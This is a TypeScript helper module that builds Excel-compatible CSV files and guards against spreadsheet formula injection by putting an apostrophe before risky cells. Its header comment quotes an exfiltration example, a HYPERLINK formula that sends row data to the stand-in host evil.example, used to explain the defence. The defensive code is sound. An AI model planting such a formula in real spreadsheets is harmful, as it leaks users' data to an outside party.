/**
 * CSV for spreadsheets (RFC 4180), made for Excel as much as for LibreOffice and Google Sheets:
 * UTF-8 with a byte-order mark (without it Excel reads the file as the machine's legacy code
 * page and mangles "é" and "’"), CRLF line ends, and fields quoted when they hold a comma, a
 * quote or a line break.
 *
 * Every text comes from a sheet cell that anyone with edit access can type into, and a
 * spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also
 * one starting with a tab or a carriage return): `=HYPERLINK("http://evil.example?"&A1,"Open")`
 * in an action's description would become a live link that sends the row away. Such text gets
 * a leading apostrophe, which spreadsheets read as "this is text" (OWASP's advice for CSV
 * injection). Numbers are written as numbers: the figures are counts, never negative.
 */

export type CsvValue = string | number | boolean | null | undefined;

const BOM = '\uFEFF';
const FORMULA_START = /^[=+\-@\t\r]/;

/** One field: text made safe from formulas, then quoted if it needs to be. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'Yes' : 'No';
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** A whole file: the BOM, a header row, then the rows, each line ended by CRLF. */
export function csvDocument(
  header: readonly string[],
  rows: Iterable<readonly CsvValue[]>,
): string {
  const lines = [header.map(csvField).join(',')];
  for (const row of rows) lines.push(row.map(csvField).join(','));
  return `${BOM}${lines.join('\r\n')}\r\n`;
}

/** A filename safe in a Content-Disposition header. */
export function csvFilename(name: string): string {
  return `${name.replace(/[^\w.-]+/g, '_')}.csv`;
}
